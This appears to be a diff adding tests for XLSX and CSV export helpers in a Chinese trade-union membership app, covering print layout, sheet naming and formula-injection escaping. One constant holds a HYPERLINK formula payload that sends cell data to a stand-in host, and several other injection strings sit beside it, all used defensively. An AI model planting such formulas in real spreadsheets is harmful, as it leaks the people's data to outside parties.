@@ -1,22 +1,105 @@
+import csv
 import io
+from datetime import date
 
 import openpyxl
 
-from core.tables import Column, write_csv, write_xlsx
+from core.tables import Column, safe_text, sheet_name, write_csv, write_xlsx
 from core.templatetags.gonghui import yuan
+
+ATTACK = '=HYPERLINK("http://x/?d="&D3&D4,"查看")'
+
+
+def _sheet(data):
+    return openpyxl.load_workbook(io.BytesIO(data)).active
 
 
 def test_xlsx_has_a_title_a_styled_frozen_header_and_widths():
     data = write_xlsx(
         [Column("姓名", 10), Column("单位", 30)], iter([("张伟", "东关完小"), ("李娜", "西街完小")]), title="会员名册"
     )
-    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    sheet = _sheet(data)
     assert sheet["A1"].value == "会员名册"
-    assert [c.value for c in sheet[2]] == ["姓名", "单位"]
-    assert sheet["A2"].font.b
+    assert [c.value for c in sheet[2]] == ["序号", "姓名", "单位"]
+    assert sheet["B2"].font.b
     assert sheet.freeze_panes == "A3"
-    assert sheet.column_dimensions["B"].width == 30
-    assert sheet["A4"].value == "李娜"
+    assert sheet.column_dimensions["C"].width == 30
+    assert sheet["B4"].value == "李娜"
+
+
+def test_a_titled_sheet_is_ready_for_the_office():
+    data = write_xlsx(
+        [Column("姓名"), Column("出生年份"), Column("单位")],
+        [("张伟", 1990, "东关完小"), ("李娜", 1985, "西街完小"), ("王芳", 1979, "东关完小")],
+        title="城关镇中心学校工会会员名册",
+        sheet="会员名册",
+    )
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    sheet = workbook.active
+    assert workbook.sheetnames == ["会员名册"]
+    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:D1"]
+    assert sheet["A1"].alignment.horizontal == "center"
+    assert [sheet.cell(row, 1).value for row in range(3, 6)] == [1, 2, 3]
+    assert sheet["C3"].value == 1990  # numbers stay numbers
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
+    assert sheet.print_title_rows == "$2:$2"
+
+
+def test_the_sheet_is_named_for_its_title_when_not_named_and_excel_accepts_the_name():
+    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([Column("事项")], [], title="2027年计划事项")))
+    assert workbook.sheetnames == ["2027年计划事项"]
+    assert sheet_name("[计划]/总结:2027?*") == "计划总结2027"
+    assert len(sheet_name("很长" * 40)) == 31
+
+
+def test_columns_that_already_number_their_rows_get_no_second_number():
+    sheet = _sheet(write_xlsx([Column("序号"), Column("姓名")], [(1, "张三")], title="报名表"))
+    assert [c.value for c in sheet[2]] == ["序号", "姓名"]
+
+
+def test_an_untitled_sheet_is_plain_data_to_import_again():
+    sheet = _sheet(write_xlsx([Column("姓名"), Column("错误说明")], [("李娜", "身份证号有误")]))
+    assert [c.value for c in sheet[1]] == ["姓名", "错误说明"]
+    assert sheet.merged_cells.ranges == set() or not list(sheet.merged_cells.ranges)
+
+
+def test_formula_cells_are_written_as_inert_text_in_xlsx():
+    rows = [("张伟", ATTACK), ("李娜", "+86 138"), ("王芳", "-1"), ("赵强", "@SUM(A1)"), ("钱七", "\t=1+1")]
+    sheet = _sheet(write_xlsx([Column("姓名"), Column("备注")], rows, title="会员名册"))
+    notes = [sheet.cell(row, 3) for row in range(3, 8)]
+    assert [c.value for c in notes] == ["'" + ATTACK, "'+86 138", "'-1", "'@SUM(A1)", "'\t=1+1"]
+    assert all(c.data_type == "s" for c in notes)
+    # Nothing in the file's XML is a formula.
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(write_xlsx([Column("备注")], [(ATTACK,)]))) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_formula_cells_are_written_as_inert_text_in_csv():
+    data = write_csv(
+        [Column("姓名"), Column("备注")], [("张伟", ATTACK), ("李娜", "+1"), ("王芳", "\r=1"), ("赵强", "好")]
+    )
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [r[1] for r in rows[1:]] == ["'" + ATTACK, "'+1", "'\r=1", "好"]
+
+
+def test_control_characters_are_dropped_so_the_export_opens():
+    note = "第一行\v第二行\x00\x1b完"
+    sheet = _sheet(write_xlsx([Column("备注")], [(note,)], title="名册\v"))
+    assert sheet["B3"].value == "第一行第二行完"
+    assert sheet["A1"].value == "名册"
+    data = write_csv([Column("备注")], [(note,)])
+    assert "\v" not in data.decode("utf-8-sig") and "第一行第二行完" in data.decode("utf-8-sig")
+    assert safe_text("换行\n保留") == "换行\n保留"
+
+
+def test_dates_and_none_are_written_as_they_are():
+    sheet = _sheet(write_xlsx([Column("日期"), Column("空")], [(date(2027, 3, 5), None)]))
+    assert sheet["A2"].value.date() == date(2027, 3, 5)
+    assert sheet["B2"].value is None
 
 
 def test_csv_opens_in_excel_with_chinese():
